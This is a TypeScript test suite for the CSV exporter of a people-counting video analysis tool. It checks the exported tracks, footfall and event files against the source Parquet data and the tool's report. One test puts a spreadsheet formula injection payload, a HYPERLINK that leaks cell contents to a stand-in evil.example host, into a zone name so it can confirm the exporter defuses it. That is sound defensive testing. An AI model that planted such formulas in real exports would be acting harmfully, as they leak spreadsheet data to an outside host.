// CSV export of a real run of the bundled clip, checked against the Parquet it came from.
import { test } from "node:test";
import assert from "node:assert/strict";
import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { exportCsv } from "../loaders/ops/export-csv.ts";
import { withDuckDb } from "../loaders/store/duckdb.ts";
import { UserError } from "../loaders/errors.ts";
import { smw, tempDir } from "./helpers.ts";

const CLIP = "data/clips/tud-stadtmitte.mp4"; // 179 frames, 7.16 s
const dir = tempDir("smw-export-");
const runDir = join(dir, "run");
const run = smw(["analyze", CLIP, "--out", runDir, "--quiet", "--stride", "2"]);

function readCsv(file: string): Record<string, string>[] {
  const [head, ...lines] = readFileSync(file, "utf8").trim().split("\n");
  const cols = head.split(",");
  return lines.map((l) => Object.fromEntries(l.split(",").map((v, i) => [cols[i], v])));
}

async function sql(q: string): Promise<Record<string, unknown>[]> {
  return withDuckDb(async (conn) => (await conn.runAndReadAll(q)).getRowObjectsJS() as Record<string, unknown>[]);
}

test("the bundled clip was analysed (every 2nd frame)", () => assert.equal(run.code, 0, run.stderr));

test("tracks_summary.csv: one row per track with first/last time and dwell, matching tracks.parquet", async () => {
  const out = join(dir, "csv");
  const t0 = performance.now();
  const r = await exportCsv(runDir, out, { intervalSeconds: 2 });
  console.log(`export: ${r.files.length} files, ${r.tracks} tracks, ${r.intervals} intervals in ${(performance.now() - t0).toFixed(0)} ms`);
  assert.deepEqual(r.files.map((f) => f.slice(out.length + 1)), ["tracks_summary.csv", "footfall.csv", "counts.csv"]);
  // people counted per analysed frame, as counts.parquet holds them
  const counts = readCsv(join(out, "counts.csv"));
  assert.equal(counts.length, 90);
  assert.deepEqual(Object.keys(counts[0]), ["frame", "t_seconds", "boxes", "foreground", "estimate"]);
  assert.deepEqual(readdirSync(out).filter((f) => f.endsWith(".tmp")), []);
  const rows = readCsv(join(out, "tracks_summary.csv"));
  const truth = await sql(`SELECT track_id, min(t_seconds) AS a, max(t_seconds) AS b, count(*)::INTEGER AS n FROM '${join(runDir, "tracks.parquet")}' GROUP BY 1 ORDER BY 1`);
  assert.equal(rows.length, truth.length);
  assert.equal(r.tracks, truth.length);
  assert.deepEqual(Object.keys(rows[0]), ["track_id", "first_frame", "last_frame", "first_seconds", "last_seconds", "dwell_seconds", "points", "observed_points", "first_x", "first_y", "last_x", "last_y", "staff"]);
  assert.ok(rows.every((x) => x.staff === "false"), "no camera config: nobody is staff");
  for (const t of truth) {
    const row = rows.find((x) => Number(x.track_id) === t.track_id)!;
    assert.ok(row, `track ${t.track_id}`);
    assert.ok(Math.abs(Number(row.first_seconds) - (t.a as number)) < 1e-3);
    assert.ok(Math.abs(Number(row.last_seconds) - (t.b as number)) < 1e-3);
    assert.ok(Math.abs(Number(row.dwell_seconds) - ((t.b as number) - (t.a as number))) < 2e-3);
    assert.equal(Number(row.points), t.n as number);
    assert.ok(Number(row.observed_points) <= (t.n as number));
  }
});

test("footfall.csv: arrivals per interval sum to the track count; people in view over every analysed frame", async () => {
  const out = join(dir, "csv");
  const rows = readCsv(join(out, "footfall.csv"));
  assert.deepEqual(Object.keys(rows[0]), ["interval", "start_seconds", "end_seconds", "visitors", "staff", "line_in", "line_out", "customers_in_view_mean", "customers_in_view_max", "frames_analysed"]);
  assert.deepEqual(rows.map((x) => [Number(x.start_seconds), Number(x.end_seconds)]), [[0, 2], [2, 4], [4, 6], [6, 7.16]]);
  const tracks = readCsv(join(out, "tracks_summary.csv")).length;
  assert.equal(rows.reduce((s, x) => s + Number(x.visitors), 0), tracks);
  // stride 2 over 179 frames: 90 analysed frames, 25 per 2 s interval
  assert.deepEqual(rows.map((x) => Number(x.frames_analysed)), [25, 25, 25, 15]);
  const perFrame = await sql(`SELECT frame, count(*)::INTEGER AS n FROM '${join(runDir, "tracks.parquet")}' GROUP BY 1`);
  const byFrame = new Map(perFrame.map((p) => [p.frame as number, p.n as number]));
  for (const [i, row] of rows.entries()) {
    const frames = Array.from({ length: 90 }, (_, k) => 2 * k).filter((f) => Math.floor(f / 25 / 2) === i);
    const ns = frames.map((f) => byFrame.get(f) ?? 0);
    assert.ok(Math.abs(Number(row.customers_in_view_mean) - ns.reduce((a, b) => a + b, 0) / ns.length) < 1e-3, `mean in interval ${i}`);
    assert.equal(Number(row.customers_in_view_max), Math.max(...ns));
  }
});

test("event tables in the run (events, zone visits, alerts) come out as CSV with the same rows", async () => {
  await sql(`
    COPY (SELECT * FROM (VALUES (1.04::DOUBLE, 3, 'door', 'in'), (4.2::DOUBLE, 7, 'door', 'out')) v(t_seconds, track_id, line, direction)) TO '${join(runDir, "events.parquet")}' (FORMAT parquet);
    COPY (SELECT * FROM (VALUES ('till', 3, 0.5::DOUBLE, 2.5::DOUBLE)) v(zone, track_id, enter_seconds, exit_seconds)) TO '${join(runDir, "zone_visits.parquet")}' (FORMAT parquet);
  `);
  const out = join(dir, "csv2");
  const r = await exportCsv(runDir, out, {});
  assert.deepEqual(r.files.map((f) => f.slice(out.length + 1)).sort(), ["counts.csv", "events.csv", "footfall.csv", "tracks_summary.csv", "zone_visits.csv"]);
  assert.deepEqual(readCsv(join(out, "events.csv")), [
    { t_seconds: "1.04", track_id: "3", line: "door", direction: "in" },
    { t_seconds: "4.2", track_id: "7", line: "door", direction: "out" },
  ]);
  assert.deepEqual(readCsv(join(out, "zone_visits.csv")), [{ zone: "till", track_id: "3", enter_seconds: "0.5", exit_seconds: "2.5" }]);
  // default interval: one minute, so the whole clip is one interval
  assert.equal(readCsv(join(out, "footfall.csv")).length, 1);
  assert.ok(!existsSync(join(out, "detections.csv")) && !existsSync(join(out, "motion.csv")));
});

test("a folder without a run gets a one-line message naming it and the fix", async () => {
  await assert.rejects(exportCsv(join(dir, "nothing"), join(dir, "csv3")), (e: unknown) => e instanceof UserError && /nothing: no run\.json there; run `smw analyze/.test(e.message));
  await assert.rejects(exportCsv(runDir, join(dir, "csv3"), { intervalSeconds: 0 }), UserError);
});

// A camera with staff (anyone in view over 3 s) and names a spreadsheet would run as formulas.
const configured = join(dir, "configured");
const camera = JSON.parse(readFileSync("data/camera.example.json", "utf8"));
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
camera.zones[0].name = FORMULA;
camera.zones[1].name = "-2";
camera.lines[0].name = "@walkway";
camera.staff = { maxDwellMinutes: 0.05 };
writeFileSync(join(dir, "camera.json"), JSON.stringify(camera));
const runConfigured = smw(["analyze", CLIP, "--out", configured, "--quiet", "--stride", "2", "--config", join(dir, "camera.json")]);

test("footfall.csv agrees with smw report for a camera with staff: staff are left out, and counted apart", async () => {
  assert.equal(runConfigured.code, 0, runConfigured.stderr);
  const report = smw(["report", configured, "--json"]);
  assert.equal(report.code, 0, report.stderr);
  const h = JSON.parse(report.stdout);
  assert.ok(h.staffExcluded > 0 && h.visitors > 0, `the config makes some people staff: ${report.stdout}`);
  const out = join(dir, "csv-configured");
  await exportCsv(configured, out, { intervalSeconds: 2 });
  const rows = await sql(`SELECT * FROM read_csv('${join(out, "footfall.csv")}', header = true)`);
  const sum = (k: string) => rows.reduce((s, x) => s + Number(x[k]), 0);
  assert.equal(sum("visitors"), h.visitors);
  assert.equal(sum("staff"), h.staffExcluded);
  assert.equal(sum("line_in"), h.lineIn);
  assert.equal(sum("line_out"), h.lineOut);
  const mean = rows.reduce((s, x) => s + Number(x.customers_in_view_mean) * Number(x.frames_analysed), 0) / sum("frames_analysed");
  assert.ok(Math.abs(mean - h.meanInView) < 1e-3, `mean customers in view ${mean} vs report ${h.meanInView}`);
  const tracks = readCsv(join(out, "tracks_summary.csv"));
  assert.equal(tracks.filter((x) => x.staff === "true").length, h.staffExcluded);
});

test("names that start like a formula are written as text (CSV injection); numbers stay numbers", async () => {
  const out = join(dir, "csv-names");
  await exportCsv(configured, out);
  const visits = await sql(`SELECT zone, dwell_seconds FROM read_csv('${join(out, "zone_visits.csv")}', header = true, all_varchar = true)`);
  const zones = new Set(visits.map((v) => v.zone));
  assert.ok(zones.has(`'${FORMULA}`), `zones as written: ${[...zones].join(" | ")}`);
  assert.ok(![...zones].some((z) => /^[=+\-@\t\r]/.test(String(z)) && z !== "-2"), "no cell starts a formula");
  assert.ok(zones.has("-2"), "a name that is just a number is left alone");
  const crossings = await sql(`SELECT line FROM read_csv('${join(out, "events.csv")}', header = true, all_varchar = true)`);
  assert.ok(crossings.length > 0 && crossings.every((c) => c.line === "'@walkway"));
  // numeric columns are untouched: durations parse as numbers
  assert.ok(visits.every((v) => Number.isFinite(Number(v.dwell_seconds))));
  // the raw text a spreadsheet opens: the formula is inside a quoted cell that starts with an apostrophe
  assert.ok(readFileSync(join(out, "zone_visits.csv"), "utf8").includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`));
});
